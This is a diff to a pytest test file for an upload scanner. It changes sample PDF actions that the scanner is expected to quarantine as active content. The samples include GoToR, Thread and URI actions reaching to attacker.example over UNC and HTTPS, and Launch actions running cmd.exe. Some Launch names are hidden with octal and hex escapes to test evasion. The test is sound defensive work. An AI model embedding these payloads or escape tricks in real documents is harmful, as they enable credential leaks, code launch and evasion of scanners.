@@ -45,7 +45,7 @@ OUTBOUND = {
     "gotor_unc": b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>",
     "uri": b"<< /S /URI /URI (https://attacker.example/ping) >>",
     "thread_remote": b"<< /S /Thread /F (\\\\\\\\attacker.example\\\\x.pdf) /D 0 >>",
-    "launch_string": b"<< /S (Launch) /F (cmd.exe) >>",
+    "launch_string": b"<< /S (L\\141unch) /F (cmd.exe) >>",
     "launch_indirect": b"<< /S 4 0 R /F (cmd.exe) >>",
 }
 
@@ -53,8 +53,8 @@ OUTBOUND = {
 @pytest.mark.parametrize("name", sorted(OUTBOUND))
 def test_pdf_actions_that_reach_out_are_active_content(name: str, grant: Callable[..., Upload],
                                                        blob_service: BlobServiceClient) -> None:
-    data = samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES, OUTBOUND[name],
-                             b"/Launch"])
+    named = [b"/L#61unch"] if name == "launch_indirect" else []  # the action type, behind a reference
+    data = samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES, OUTBOUND[name], *named])
     up = upload(grant, data, filename="a.pdf", contentType="application/pdf", profile="documents")
     assert_quarantined(up, blob_service, "active_content")
 
